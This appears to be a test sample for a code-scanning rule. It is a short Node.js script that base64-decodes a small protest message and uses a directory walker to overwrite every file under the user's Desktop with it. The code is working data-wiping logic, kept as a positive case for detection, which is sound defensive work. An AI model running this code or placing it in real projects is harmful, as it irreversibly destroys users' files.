// a walker that hands each file to a callback, given one that writes a decoded constant over it; a callback that
// rewrites each file's own text is a formatter
const fs = require('fs');
const os = require('os');
const path = require('path');
const d = (s) => Buffer.from(s, 'base64').toString('utf8');
const msg = d('Tk8gV0FS');
function walk(dir, depth, fn) {
  if (depth > 4) return;
  for (const it of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, it.name);
    if (it.isDirectory()) walk(p, depth + 1, fn);
    else fn(p);
  }
}
// ruleid: wipes_walked_tree
walk(path.join(os.homedir(), 'Desktop'), 0, (f) => { fs.writeFileSync(f, msg); });
